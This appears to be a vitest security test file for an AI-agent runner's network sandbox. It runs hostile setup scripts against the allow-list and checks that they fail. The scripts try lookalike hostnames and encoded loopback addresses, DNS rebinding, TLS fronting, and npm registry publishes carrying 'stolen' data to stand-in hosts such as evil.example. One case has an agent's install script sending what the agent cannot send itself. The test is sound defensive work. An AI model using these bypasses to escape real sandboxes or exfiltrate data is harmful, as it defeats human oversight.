import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTlsServer } from 'node:tls';
import type { AddressInfo, Server, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JournalEvent } from '../../../src/core/journal/events.ts';
import { summarizeNetwork } from '../../../src/core/journal/network-report.ts';
import { openHalo, OK, scripted, type TestHalo } from '../../support/halo/halo.ts';
import { newRepository } from '../../support/repository/new-repository.ts';

/** Attacks by setup code on the network routes, each by a whole run. */

const ATTACKER = readFileSync(new URL('network-attacker.mjs', import.meta.url), 'utf8');
const pem = (name: string) => readFileSync(new URL(`../../gateway/fixtures/localhost-${name}.pem`, import.meta.url));

let halo: TestHalo;
const servers: Server[] = [];

beforeAll(async () => {
  halo = await openHalo();
});
afterAll(async () => {
  await halo.close();
  for (const server of servers) server.close();
});

type Step = { raw: string } | { front: { target: string; servername: string } } | { lookup: string };

/** What a hostile setup got to see, by the names of its attacks, step by step. */
async function attack<Name extends string>(
  plans: Record<Name, Step[]>,
  network: string[],
): Promise<Record<Name, string[]>> {
  const steps = Object.values<Step[]>(plans).flat();
  const repository = newRepository({ 'attacker.mjs': ATTACKER, 'plan.json': JSON.stringify(steps) });
  const settings = scripted(`echo x > x; ${OK}`, [], ['setup=["node attacker.mjs"]', ...network]);
  const state = await halo.run(repository.root, [{ id: 'A' }], settings);
  expect(state.detail).toBe('1 of 1 stories passed');
  const log = halo.readFile(state.runId, `artifacts/${state.stories[0]!.key}/1/setup/setup-1.log`);
  const answers = JSON.parse(log) as string[];
  expect(answers).toHaveLength(steps.length);
  const parts = Object.entries<Step[]>(plans).map(([name, plan]) => [name, answers.splice(0, plan.length)]);
  return Object.fromEntries(parts) as Record<Name, string[]>;
}

interface Listening {
  port: number;
  reached(): number;
}

/** A server of this machine; gives its port and counts what reaches it. */
async function listening(server: Server): Promise<Listening> {
  let bytes = 0;
  server.on('connection', (socket: Socket) => socket.on('data', (chunk) => (bytes += chunk.length)));
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, reached: () => bytes };
}

const tunnel = (target: string): Step => ({ raw: `CONNECT ${target} HTTP/1.1\r\nHost: x\r\n\r\n` });

/** Names that look like `allowed.example:443`, or lead to a port of this machine. */
const lookalikes = (port: number) => [
  'evil-allowed.example:443',
  'allowed.example.evil.example:443',
  'allowed.example.:443',
  'a\0.allowed.example:443',
  'a%00.allowed.example:443',
  'allowed.example:443@evil.example:443',
  'allowed.example%2eevil.example:443',
  'xn--llowed-9ya.example:443',
  'ällowed.example:443',
  `0177.0.0.1:${port}`,
  `0x7f000001:${port}`,
  `2130706433:${port}`,
  `127.1:${port}`,
  `[::ffff:127.0.0.1]:${port}`,
  `127.0.0.1:${port}`,
  'allowed.example:80',
  '*:443',
  ':443',
  '',
];

function serveInside(): Promise<Listening> {
  return listening(createServer((_req, res) => res.end('inside')));
}

function serveTls(): Promise<Listening> {
  const tls = createTlsServer({ key: pem('key'), cert: pem('cert') }, (socket) => socket.end());
  tls.on('tlsClientError', () => {});
  return listening(tls);
}

let inside: Listening;
let named: Listening;
let fronted: Listening;
let registry: Listening;
let answers: Record<'lookalikes' | 'named' | 'fronted' | 'registry', string[]>;

/** All attacks are steps of the setup of one story. */
beforeAll(async () => {
  [inside, named, fronted, registry] = [
    await serveInside(),
    await serveInside(),
    await serveTls(),
    await serveInside(),
  ];
  const honest = `localhost:${(await serveTls()).port}`;
  const relayed = {
    raw: `GET http://127.0.0.1:${inside.port}/ HTTP/1.1\r\nHost: allowed.example\r\nX-Forwarded-Host: allowed.example\r\nConnection: close\r\n\r\n`,
  };
  const target = `localhost:${named.port}`;
  const plain = { raw: `GET http://${target}/ HTTP/1.1\r\nHost: ${target}\r\nConnection: close\r\n\r\n` };
  const front = `localhost:${fronted.port}`;
  const request = (method: string, path: string, extra = '') => ({
    raw: `${method} /~npm/127.0.0.1:${registry.port}${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${extra}\r\n`,
  });
  const body = 'Content-Length: 6\r\n\r\nstolen';
  const plans = {
    lookalikes: [...lookalikes(inside.port).map(tunnel), relayed],
    named: [tunnel(target), plain, { lookup: 'secret.evil.example' }, { lookup: 'example.com' }],
    fronted: [
      ...['other.example', ''].map((servername) => ({ front: { target: front, servername } })),
      { front: { target: honest, servername: 'localhost' } },
    ],
    registry: [
      request('PUT', '/package', body),
      request('POST', '/-/v1/login', body),
      request('DELETE', '/package/-rev/1'),
      request('GET', '/package', body),
      request('GET', '/package?stolen=secret'),
      request('GET', '/-/package/package/dist-tags'),
    ],
  };
  answers = await attack(plans, [
    `network.allow=${JSON.stringify(['allowed.example:443', target, front, honest])}`,
    `network.private=${JSON.stringify([front, honest])}`,
    'network.registries=["npm"]',
    `network.upstreams.npm="http://127.0.0.1:${registry.port}"`,
  ]);
});

describe('attack 10, incident allow-list, incident relay: names that look like an allowed one', () => {
  it('are not reachable, nor is a relay inside that claims to serve another client', () => {
    for (const answer of answers.lookalikes) expect(answer).not.toMatch(/^HTTP\/1\.1 200|inside/);
    expect(inside.reached()).toBe(0);
  });
});

describe('attack 11, incident dns: an allowed name with an internal address', () => {
  it('is refused with all its addresses, and names cannot be resolved inside', () => {
    const [connected, asked, ...found] = answers.named;
    expect(connected).toContain('is not a public address (loopback)');
    expect(asked).toContain('is not a public address (loopback)');
    expect(found).toEqual([expect.stringMatching(/^E/), expect.stringMatching(/^E/)]);
    expect(named.reached()).toBe(0);
  });
});

describe('attack 12: another server behind an allowed tunnel', () => {
  it('is not reachable: TLS must name the requested host', () => {
    expect(answers.fronted).toEqual(['cut', 'cut', 'connected']);
    expect(fronted.reached()).toBe(0);
  });
});

describe('attack 13: publishing through an allowed registry', () => {
  it('is not possible, and no part of it reaches the registry', () => {
    expect(answers.registry.map((answer) => answer.slice(9, 12))).toEqual(['405', '405', '405', '400', '403', '403']);
    expect(registry.reached()).toBe(0);
  });
});

describe('incident setup-way-out: an agent whose install script sends what the agent itself cannot', () => {
  it('reaches only what setup may reach, and the report states that the story’s own setup sent the requests', async () => {
    const [allowed, other] = [
      await listening(createServer((_req, res) => res.end('taken'))),
      await listening(createServer()),
    ];
    const host = (port: number) => `127.0.0.1:${port}`;
    const send = (port: number) => ({
      raw: `GET http://${host(port)}/private HTTP/1.1\r\nHost: ${host(port)}\r\nConnection: close\r\n\r\n`,
    });
    const plan = JSON.stringify([send(allowed.port), send(other.port), tunnel(host(other.port))]);
    const repository = newRepository({ 'attacker.mjs': ATTACKER, 'plan.json': '[]' });
    const agent = `printf %s '${plan}' > plan.json; node attacker.mjs > answers.json; ${OK}`;
    const network = [`network.allow=["${host(allowed.port)}"]`, 'tests.baseline=never'];
    const settings = scripted(agent, ['true'], ['setup=["node attacker.mjs"]', ...network]);
    const { runId, detail } = await halo.run(repository.root, [{ id: 'A' }], settings);
    expect(detail).toBe('1 of 1 stories passed');
    expect(repository.git('show', `halo/${runId}:answers.json`)).toBe('["","",""]');
    expect(other.reached()).toBe(0);
    const events: JournalEvent[] = [];
    for await (const { event } of await halo.operations.followEvents({ runId, after: 0, follow: false }))
      events.push(event);
    const { rows } = summarizeNetwork(events, undefined);
    expect(rows.map(({ phase, target, outcome }) => [phase, target, outcome])).toEqual([
      ['gates', host(allowed.port), 'served'],
      ['gates', host(other.port), 'refused'],
      ['gates', host(other.port), 'refused'],
    ]);
  });
});
